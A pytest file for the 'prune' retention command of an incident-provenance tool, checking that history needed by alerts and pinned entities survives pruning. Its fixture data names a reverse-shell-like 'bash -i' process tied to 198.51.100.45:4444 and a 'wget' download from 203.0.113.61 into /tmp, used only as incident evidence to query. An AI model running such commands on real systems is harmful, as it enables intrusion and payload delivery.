"""`prune` on the bundled incident: the history that an alert or a pinned entity needs stays, all other history is dropped."""

from __future__ import annotations

import json
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from shutil import copyfile
from typing import Any

import pytest

from provenance.alerts.alert import Alert
from provenance.alerts.intake import submit
from provenance.cli import main
from provenance.demo.incident import alert
from provenance.ingest.clock import LAST
from provenance.ingest.facts import Flow, FlowKind
from provenance.ingest.identity import EntityKind, format_id
from provenance.retention.pins import PinRecord, pin
from provenance.store import open_store
from provenance.store.interface import Direction, Selector
from provenance.trace.slice.budget import DEFAULT
from provenance.trace.slice.walk import walk
from tests.provenance.cli.conftest import BUNDLED, Command
from tests.provenance.trace.plain import exact

AFTER = "2030-01-01T00:00:00Z"
SHELL = ("--command", "^bash -i$", "--remote", "198.51.100.45:4444", "--at", "2026-11-24T03:28:58.271Z")


@pytest.fixture(scope="module")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with the ingested incident."""
    path = tmp_path_factory.mktemp("ingested") / "case.db"
    assert main(["ingest", "--store", str(path), str(BUNDLED)]) == 0
    return path


@pytest.fixture
def case(ingested: Path, tmp_path: Path) -> Path:
    """A copy of it."""
    return Path(copyfile(ingested, tmp_path / "case.db"))


@pytest.fixture
def answer(case: Path, command: Command) -> Callable[..., Any]:
    """The JSON that a command answers about the case."""

    def ask(*words: str) -> Any:
        result = command(words[0], "--store", case, *words[1:], "--format", "json")
        assert result.code == 0, result.err
        return json.loads(result.out)

    return ask


def without_blind(trace: Any) -> Any:
    return {name: value for name, value in trace.items() if name != "blind"}


def test_the_slices_of_a_saved_alert_stay(case: Path, answer: Callable[..., Any]) -> None:
    result = alert()
    body = {
        "time": result.time,
        "host": result.host,
        "process": {"command": "bash -i"},
        "network": {"remote_ip": result.remote_ip, "remote_port": result.remote_port},
    }
    with closing(open_store(str(case))) as store:
        submit(store.documents(), [Alert("known", "ndr", "1", result.title, body)], 0)
        submit(store.documents(), [Alert("unknown", "ndr", "2", "", {"file": {"path": "/nowhere"}})], 0)
    questions = [(name, "--alert", "known") for name in ("backtrack", "forward")]
    before = [answer(*question) for question in questions]
    lines = {edge: answer("evidence", edge) for edge in chain_edges(before[0])}
    done = answer("prune", "--before", AFTER)
    assert done["kept_slices"] == 1 and done["unexplained_alerts"] == ["unknown"]
    assert done["dropped"]["entities"] > 500
    after = [answer(*question) for question in questions]
    assert list(map(without_blind, after)) == list(map(without_blind, before))
    assert all("retention" in trace["blind"][0]["why"] for trace in after)
    assert lines and {edge: answer("evidence", edge) for edge in chain_edges(after[0])} == lines


def chain_edges(trace: Any) -> set[str]:
    """The ids of the edges of a trace that its chain names."""
    return {step["edge"] for step in trace["chain"]} & {edge["id"] for edge in trace["edges"]}


def test_the_traces_of_a_pinned_entity_stay(case: Path, answer: Callable[..., Any]) -> None:
    (start,) = answer("backtrack", *SHELL)["query"]["start"]
    before = answer("backtrack", "--id", start)
    assert answer("prune", "--before", AFTER, "--keep", start)["kept_slices"] == 1
    assert without_blind(answer("backtrack", "--id", start)) == without_blind(before)


def test_pinned_entities_and_alerts_of_the_service_stay(case: Path, answer: Callable[..., Any]) -> None:
    (start,) = answer("backtrack", *SHELL)["query"]["start"]
    before = answer("backtrack", "--id", start)
    received = Alert(
        "received", "ndr", "3", "", {"process": {"command": "wget -q http://203.0.113.61/3333 -O /tmp/3333"}}
    )
    with closing(open_store(str(case))) as store:
        pin(store.documents(), start, PinRecord("the shell", "somebody", 0))
        pin(store.documents(), "pffffffffffffffff", PinRecord("not here", "somebody", 0))
        pin(store.documents(), f"SPAWNED-{start}-{start}", PinRecord("a flow", "somebody", 0))
        submit(store.documents(), [received], 0)
    done = answer("prune", "--before", AFTER)
    assert (done["kept_slices"], done["unexplained_alerts"]) == (2, [])
    assert without_blind(answer("backtrack", "--id", start)) == without_blind(before)
    assert answer("find", "--command", "^wget -q http://203.0.113.61/3333")["entities"]


def test_without_an_alert_its_history_is_dropped(case: Path, answer: Callable[..., Any], command: Command) -> None:
    answer("prune", "--before", AFTER)
    assert command("backtrack", "--store", case, *SHELL).code == 1
    assert answer("stats")["flows"] == {}


@pytest.mark.parametrize("direction", Direction)
def test_a_trace_loses_only_older_history(case: Path, answer: Callable[..., Any], direction: Direction) -> None:
    """The slice of what is left is what the plain rules make of the flows that ended after the cut."""
    cut = "2026-11-24T03:29:10Z"
    store = open_store(str(case))
    flows = list(store.all_flows())
    known = {node.id for node in store.all_nodes()}
    answer("prune", "--before", cut)
    (left,) = [blind.last for blind in store.blinds() if "retention" in blind.why]
    remaining = [flow for flow in flows if flow.last >= left]
    assert 0 < len(remaining) < len(flows)
    bound = LAST if direction is Direction.BACKWARD else 0
    for node in list(store.find(Selector(command="")))[-3:]:
        bounds, counted = exact(remaining, direction, {node.id: bound})
        slice_ = walk(store, direction, {node.id: bound}, None, DEFAULT)
        assert dict(slice_.bounds) == bounds and bounds.keys() <= known
        assert sum(edge.times for edge in slice_.edges) == sum(
            flow.times for flow in remaining if place(flow) in counted
        )
    store.close()


def place(flow: Flow) -> tuple[FlowKind, int, int, int]:
    return flow[:4]


def test_a_dry_run_only_prints_the_counts(case: Path, answer: Callable[..., Any], command: Command) -> None:
    before = answer("stats")
    result = command("prune", "--store", case, "--before", "2026-11-24T03:29:10Z", "--dry-run")
    assert result.code == 0 and "would be dropped" in result.out and result.err == ""
    assert answer("stats") == before
    assert command("prune", "--store", case, "--before", "2026-11-24T03:29:10Z").out == result.out.replace(
        "would be dropped", "dropped"
    )


def test_wrong_use(case: Path, command: Command, tmp_path: Path) -> None:
    assert command("prune", "--store", case).code == 2
    assert command("prune", "--store", case, "--before", "the day before").code == 2
    assert command("prune", "--store", case, "--before", AFTER, "--keep", "x").code == 2
    nobody = format_id(EntityKind.PROCESS, 12345)
    assert command("prune", "--store", case, "--before", AFTER, "--keep", nobody).code == 1
    assert command("prune", "--store", tmp_path / "none.db", "--before", AFTER).code == 2
    with open_store(str(case)).writer():
        busy = command("prune", "--store", case, "--before", AFTER, "--no-wait")
    assert busy.code == 3 and "is being written by process" in busy.err
